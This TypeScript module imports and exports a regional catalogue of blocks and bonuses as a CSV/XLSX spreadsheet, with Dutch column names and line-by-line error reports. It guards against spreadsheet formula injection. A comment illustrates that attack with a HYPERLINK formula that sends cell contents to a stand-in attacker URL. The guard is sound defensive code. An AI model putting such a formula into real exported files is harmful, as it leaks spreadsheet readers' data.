// The catalogue as a spreadsheet (CSV or XLSX): one row per block or bonus, Dutch column names, so
// a region can keep its table in Excel. Metadata (name, full-time week, source) comes with the
// import, not in the sheet. Problems are reported per spreadsheet line.
import Papa from "papaparse";
import type { CatalogueFile, CatalogueFileProblem } from "./catalogue-file.js";
import { parseCatalogueFile } from "./catalogue-file.js";
import { type DutchNumberField, readDutchNumber } from "./dutch-number.js";

export const SHEET_COLUMNS = [
  "soort",
  "code",
  "naam",
  "categorie",
  "waardering",
  "bedrag",
  "aandeel",
  "max_maanden",
  "min_uren_per_week",
  "geldt_voor",
  "eenmalig",
  "toelichting",
] as const;
export type SheetColumn = (typeof SHEET_COLUMNS)[number];
export type SheetRow = Partial<Record<SheetColumn, string>>;

export interface SheetMetadata {
  region: string;
  regionCode?: string;
  name: string;
  validFrom: string | null;
  basisHours: string;
  source?: string | null;
}

const FIELD_TO_COLUMN: Record<string, SheetColumn> = {
  code: "code",
  name: "naam",
  category: "categorie",
  kind: "waardering",
  amount: "bedrag",
  share: "aandeel",
  maxMonths: "max_maanden",
  minHoursPerWeek: "min_uren_per_week",
  appliesTo: "geldt_voor",
  oneOff: "eenmalig",
  note: "toelichting",
};

const blank = (value: string | undefined) => value === undefined || value.trim() === "";

// The number columns, read as the catalogue forms read them ("40.000", "40000,00", "€ 40.000,-").
// The share is the fraction the export writes ("0.50"), not a percentage; its bounds and the
// amounts a valuation kind needs are checked by the catalogue format itself.
const NUMBER_COLUMNS = {
  bedrag: { kind: "money", label: "het bedrag", example: "40.000 of 40000,00" },
  aandeel: { kind: "number", label: "het aandeel", example: "1 of 0,5", decimals: 4 },
  max_maanden: { kind: "whole", label: "de maximale duur in maanden", min: "1" },
  min_uren_per_week: { kind: "hours", label: "het minimum aantal uren per week" },
} as const satisfies Partial<Record<SheetColumn, DutchNumberField>>;

/**
 * The rows of a catalogue version. A concept's marking ("concept — te bevestigen") goes along as a
 * first row of soort "concept" with the note under toelichting, so a re-import stays a concept.
 */
export function catalogueToRows(
  catalogue: Pick<CatalogueFile, "blocks" | "bonuses"> & { conceptNote?: string | null },
): SheetRow[] {
  return [
    ...(catalogue.conceptNote ? [{ soort: "concept", toelichting: catalogue.conceptNote }] : []),
    ...catalogue.blocks.map((block) => ({
      soort: "bouwblok",
      code: block.code,
      naam: block.name,
      categorie: block.category,
      waardering: block.kind,
      bedrag: block.amount ?? "",
      aandeel: block.share ?? "",
      max_maanden: block.maxMonths === null ? "" : String(block.maxMonths),
      min_uren_per_week: block.minHoursPerWeek ?? "",
      geldt_voor: "",
      eenmalig: "",
      toelichting: block.note ?? "",
    })),
    ...catalogue.bonuses.map((bonus) => ({
      soort: "toeslag",
      code: bonus.code,
      naam: bonus.name,
      categorie: "",
      waardering: "",
      bedrag: bonus.amount,
      aandeel: "",
      max_maanden: "",
      min_uren_per_week: "",
      geldt_voor: bonus.appliesTo.join(", "),
      eenmalig: bonus.oneOff ? "ja" : "nee",
      toelichting: "",
    })),
  ];
}

// A cell that starts with one of these is a formula to Excel and LibreOffice: a name such as
// =HYPERLINK("https://evil.example?"&A1) in a published catalogue would run on the reader's
// machine. Written with a leading apostrophe it is text; reading strips that apostrophe again.
const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell value safe to open in a spreadsheet: a formula-like value becomes text. */
export function spreadsheetSafe(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** The value a spreadsheetSafe cell was made from. */
export function fromSpreadsheetSafe(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}

/** The cells of one row in column order, each spreadsheetSafe: for CSV and XLSX alike. */
export function sheetCells(row: SheetRow): string[] {
  return SHEET_COLUMNS.map((column) => spreadsheetSafe(row[column] ?? ""));
}

export function rowsToCsv(rows: SheetRow[]): string {
  return Papa.unparse({ fields: [...SHEET_COLUMNS], data: rows.map(sheetCells) });
}

export type SheetParseResult =
  | { ok: true; catalogue: CatalogueFile; conceptNote: string | null }
  | { ok: false; problems: CatalogueFileProblem[] };

/**
 * Rows (the header already mapped to column names) → a catalogue. `lineOf(i)` is the spreadsheet
 * line of row i, for the report. Every problem is reported, not only the first.
 */
export function catalogueFromRows(
  rows: SheetRow[],
  meta: SheetMetadata,
  lineOf = (i: number) => i + 2,
): SheetParseResult {
  const problems: CatalogueFileProblem[] = [];
  const blocks: unknown[] = [];
  const bonuses: unknown[] = [];
  const blockLines: number[] = [];
  const bonusLines: number[] = [];
  let conceptNote: string | null = null;
  /** cells the number reader refused: the format's own complaint about them would only repeat it */
  const refusedCells = new Set<string>();

  rows.forEach((cells, index) => {
    const line = lineOf(index);
    const row: SheetRow = Object.fromEntries(
      Object.entries(cells).map(([column, value]) => [
        column,
        typeof value === "string" ? fromSpreadsheetSafe(value) : value,
      ]),
    );
    const decimalText = (column: keyof typeof NUMBER_COLUMNS): string | null => {
      const value = row[column];
      if (value === undefined || blank(value)) return null;
      const read = readDutchNumber(value, NUMBER_COLUMNS[column]);
      if (read.ok) return read.value;
      const path = `regel ${line}, ${column}`;
      refusedCells.add(path);
      problems.push({ path, message: read.message });
      return null;
    };
    const number = (column: keyof typeof NUMBER_COLUMNS) => {
      const value = decimalText(column);
      return value === null ? null : Number(value);
    };
    const kind = row.soort?.trim().toLowerCase();
    if (Object.values(row).every(blank)) return;
    if (kind === "concept") {
      conceptNote = row.toelichting?.trim() ?? "";
      if (!conceptNote)
        problems.push({
          path: `regel ${line}, toelichting`,
          message: "schrijf bij een concept waarom de waarden nog voorlopig zijn",
        });
    } else if (kind === "bouwblok") {
      blockLines.push(line);
      blocks.push({
        code: row.code?.trim() ?? "",
        name: row.naam?.trim() ?? "",
        category: row.categorie?.trim().toUpperCase() ?? "",
        kind: row.waardering?.trim().toUpperCase() ?? "",
        amount: decimalText("bedrag"),
        share: decimalText("aandeel"),
        maxMonths: number("max_maanden"),
        minHoursPerWeek: decimalText("min_uren_per_week"),
        note: blank(row.toelichting) ? null : row.toelichting?.trim(),
      });
    } else if (kind === "toeslag") {
      bonusLines.push(line);
      const oneOff = row.eenmalig?.trim().toLowerCase();
      if (oneOff && !["ja", "nee"].includes(oneOff)) {
        problems.push({ path: `regel ${line}, eenmalig`, message: 'vul "ja" of "nee" in' });
      }
      bonuses.push({
        code: row.code?.trim() ?? "",
        name: row.naam?.trim() ?? "",
        amount: decimalText("bedrag") ?? "",
        appliesTo: (row.geldt_voor ?? "")
          .split(/[,;]/)
          .map((part) => part.trim())
          .filter(Boolean),
        oneOff: oneOff === "ja",
      });
    } else {
      problems.push({
        path: `regel ${line}, soort`,
        message: 'vul "bouwblok", "toeslag" of "concept" in',
      });
    }
  });

  const parsed = parseCatalogueFile({
    format: "sroi-catalogue/1",
    region: meta.region,
    ...(meta.regionCode ? { regionCode: meta.regionCode } : {}),
    name: meta.name,
    validFrom: meta.validFrom,
    source: meta.source ?? null,
    basisHours: Number(meta.basisHours),
    blocks,
    bonuses,
  });
  if (parsed.ok && problems.length === 0) return { ...parsed, conceptNote };
  // Map "blocks[3].amount" back to the spreadsheet line and column a person can find.
  for (const problem of parsed.ok ? [] : parsed.problems) {
    const match = /^(blocks|bonuses)\[(\d+)\](?:\.(\w+))?/.exec(problem.path);
    if (!match) {
      problems.push(problem);
      continue;
    }
    const [, list, index, field] = match;
    const line = (list === "blocks" ? blockLines : bonusLines)[Number(index)];
    const column = field ? (FIELD_TO_COLUMN[field] ?? field) : null;
    const path = `regel ${line}${column ? `, ${column}` : ""}`;
    if (!refusedCells.has(path)) problems.push({ path, message: problem.message });
  }
  problems.sort((a, b) => lineNumber(a.path) - lineNumber(b.path));
  return { ok: false, problems };
}

function lineNumber(path: string): number {
  return Number(/regel (\d+)/.exec(path)?.[1] ?? 0);
}

export function catalogueFromCsv(text: string, meta: SheetMetadata): SheetParseResult {
  const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ""), {
    header: true,
    skipEmptyLines: "greedy",
    // Excel in Dutch writes semicolons; let Papa detect the delimiter.
    transformHeader: (header) => header.trim().toLowerCase().replace(/\s+/g, "_"),
  });
  const missing = SHEET_COLUMNS.filter(
    (c) => c !== "toelichting" && !parsed.meta.fields?.includes(c),
  );
  if (missing.length) {
    return {
      ok: false,
      problems: [{ path: "regel 1", message: `kolommen ontbreken: ${missing.join(", ")}` }],
    };
  }
  return catalogueFromRows(parsed.data as SheetRow[], meta);
}
